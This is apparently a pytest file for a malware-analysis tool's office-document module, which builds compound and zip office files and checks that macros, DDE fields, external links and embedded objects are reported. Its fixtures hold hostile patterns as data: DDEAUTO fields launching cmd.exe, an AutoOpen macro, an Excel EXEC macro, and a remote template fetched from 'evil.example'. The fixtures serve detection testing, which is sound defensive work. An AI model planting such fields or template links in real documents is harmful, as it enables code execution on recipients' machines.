"""Office files of both containers: macros, links, DDE, embedded objects; damaged and hostile ones."""

from __future__ import annotations

import hashlib
import itertools
import struct
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from malkoha.processing import runner
from malkoha.processing.office import OfficeModule, describe
from tests.unit.processing.folder import analysis
from tests.unit.processing.test_containers import zipped
from tests.unit.processing.test_vba import CODE, storage

TYPES = {"[Content_Types].xml": b"<Types/>"}


def compound(streams: dict[str, bytes]) -> bytes:
    """Write a compound file ([MS-CFB], version 3) with the paths given; every stream is padded to 4096 bytes."""
    entries: list[list[Any]] = [["Root Entry", 5, [], -2, 0]]
    sectors: list[bytes] = []
    fat: list[int] = []

    def place(data: bytes) -> int:
        first, number = len(sectors), -(-len(data) // 512)
        sectors.extend(data[at : at + 512].ljust(512, b"\0") for at in range(0, len(data), 512))
        fat.extend([*range(first + 1, first + number), 0xFFFFFFFE])
        return first

    known: dict[str, int] = {"": 0}
    for path, data in streams.items():
        above = ""
        for part in path.split("/")[:-1]:
            below = f"{above}/{part}"
            if below not in known:
                known[below] = len(entries)
                entries[known[above]][2].append(len(entries))
                entries.append([part, 1, [], -2, 0])
            above = below
        padded = data.ljust(4096, b"\0")
        entries[known[above]][2].append(len(entries))
        entries.append([path.split("/")[-1], 2, [], place(padded), len(padded)])
    after: dict[int, int] = {}
    for entry in entries:
        children: list[int] = entry[2]
        children.sort(key=lambda n: (len(str(entries[n][0])), str(entries[n][0]).upper()))
        after |= dict(itertools.pairwise(children))
    raw = b""
    for number, (called, kind, children, start, size) in enumerate(entries):
        text = str(called).encode("utf-16-le") + b"\0\0"
        child = children[0] if children else -1
        raw += text.ljust(64, b"\0") + struct.pack("<HBBiii", len(text), kind, 1, -1, after.get(number, -1), child)
        raw += bytes(36) + struct.pack("<iQ", start, size)
    directory = place(raw.ljust(-(-len(raw) // 512) * 512, b"\0"))
    table = len(sectors)
    fat.append(0xFFFFFFFD)
    assert len(fat) <= 128
    sectors.append(struct.pack("<128I", *fat, *[0xFFFFFFFF] * (128 - len(fat))))
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 62, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<IIIIIiIiI", 0, 1, directory, 0, 4096, -2, 0, -2, 0) + struct.pack(
        "<i108i", table, *[-1] * 108
    )
    return header + b"".join(sectors)


def word(**streams: bytes) -> bytes:
    return compound({f"Macros/VBA/{name}": data for name, data in storage().items()} | streams)


def test_macros_of_a_compound_file_with_what_starts_them() -> None:
    found, kept = describe(word(WordDocument=b'\x13 DDEAUTO c:\\cmd.exe "/k calc" \x14'))
    macro = found["macros"][0]
    assert macro["name"] == "Macros/VBA/M"
    assert macro["source"].startswith("Sub AutoOpen()")
    assert (macro["runs_by_itself"], macro["calls"]) == (["AutoOpen"], ["curl", "Shell"])
    assert found["dde"] == ['DDEAUTO c:\\cmd.exe "/k calc"']
    assert "errors" not in found
    assert any(b"AutoOpen" in content for content in kept)


def test_macros_links_dde_and_objects_of_a_zip() -> None:
    relations = (
        b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a&amp;b.dotm" '
        b'TargetMode="External"/><Relationship Type="http://x/styles" Target="styles.xml"/></Relationships>'
    )
    document = b"<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO cmd &quot;/c x&quot;</w:instrText></w:p>"
    native = b"\0\0\0\0\2\0x.sh\0c:\\x.sh\0\0\0\3\0" + struct.pack("<I", 5) + b"t.sh\0" + struct.pack("<I", 4) + b"#!/b"
    found, kept = describe(
        zipped(
            TYPES
            | {
                "word/vbaProject.bin": compound({f"VBA/{name}": data for name, data in storage().items()}),
                "word/_rels/settings.xml.rels": relations,
                "word/document.xml": document,
                "xl/externalLinks/e.xml": b'<ddeLink ddeService="cmd" ddeTopic="/c calc">',
                "xl/macrosheets/s.xml": b"<c><f>EXEC(&quot;sh&quot;)</f></c>",
                "word/embeddings/o.bin": compound({"\x01Ole10Native": native}),
                "word/embeddings/x.elf": b"\x7fELF",
            }
        )
    )
    assert [macro["name"] for macro in found["macros"]] == ["word/vbaProject.bin/VBA/M", "xl/macrosheets/s.xml"]
    assert found["macros"][1]["source"] == 'EXEC("sh")'
    link = {
        "kind": "attachedTemplate",
        "target": "http://evil.example/a&b.dotm",
        "part": "word/_rels/settings.xml.rels",
    }
    assert found["links"] == [link]
    assert found["dde"] == ['DDEAUTO cmd "/c x"', "cmd|/c calc"]
    assert [entry["name"] for entry in found["embedded"]] == ["word/embeddings/o.bin", "x.sh", "word/embeddings/x.elf"]
    assert found["embedded"][1]["sha256"] == hashlib.sha256(b"#!/b").hexdigest()
    assert b"#!/b" in kept


def test_macros_and_events_of_an_open_document() -> None:
    event = b'<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:S.M.Main"/>'
    found, _ = describe(
        zipped(
            {"mimetype": b"x", "content.xml": event, "Basic/S/M.xml": b"<m>Sub Main\nShell(&quot;x&quot;)\nEnd Sub</m>"}
        )
    )
    assert found["macros"][0]["calls"] == ["Shell"]
    assert found["events"] == ["dom:load: vnd.sun.star.script:S.M.Main"]


def test_an_encrypted_one_says_so() -> None:
    assert describe(compound({"EncryptedPackage": b"x"}))[0]["encrypted"] is True


def test_a_clean_one_says_nothing() -> None:
    assert describe(zipped(TYPES | {"word/document.xml": b"<w:p><w:t>DDE is a word</w:t></w:p>"}))[0] == {
        "container": "zip"
    }


def test_the_section_from_its_own_process(tmp_path: Path) -> None:
    facts = analysis(tmp_path, sample=word(), name=b"x.doc")
    sections, errors = runner.run(facts.store, facts.task, facts.run, [OfficeModule])
    assert errors == []
    kept = {path.read_bytes() for path in facts.store.unpacked.iterdir()}
    assert sections["office"]["macros"][0]["source"].encode() in {content.rstrip(b"\r\n") for content in kept} | kept


@pytest.mark.parametrize("sample", [b"#!/bin/sh\n", zipped({"a": b"x"}), b""])
def test_it_applies_to_office_files_only(tmp_path: Path, sample: bytes) -> None:
    assert not OfficeModule.applies(analysis(tmp_path, sample=sample))


@settings(max_examples=80, deadline=None)
@given(
    st.booleans(), st.lists(st.tuples(st.integers(0, 20_000), st.integers(0, 255)), max_size=60), st.integers(9, 20_000)
)
def test_corrupt_files_never_raise(old: bool, changes: list[tuple[int, int]], size: int) -> None:
    data = bytearray(word() if old else zipped(TYPES | {"word/vbaProject.bin": word(), "a.xml": CODE.encode()}))
    for at, value in changes:
        data[at % len(data)] = value
    found, _ = describe(bytes(data[:size]))
    assert found["container"] in ("OLE", "zip")
